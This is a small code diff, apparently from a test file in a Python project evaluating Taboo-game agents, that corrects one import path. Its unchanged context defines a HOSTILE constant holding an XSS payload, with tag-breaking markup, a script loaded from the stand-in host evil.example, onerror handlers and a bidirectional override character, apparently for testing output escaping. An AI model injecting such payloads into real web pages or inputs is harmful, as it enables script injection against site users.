@@ -12,7 +12,7 @@ from spag.core.types import Utterance
 from spag.evaluation.arena.games import arena_report, match_specs, pairings
 from spag.evaluation.health import iteration_health
 from spag.evaluation.reasoning.results import figures_of
-from spag.games.taboo.judge.judge import JudgeMode
+from spag.games.taboo.judge import JudgeMode
 from spag.games.taboo.types import Role
 
 HOSTILE = '</bdi></style><script src="http://evil.example/x.js">alert(1)</script><img src=x onerror=alert(2)> \u202eevil'
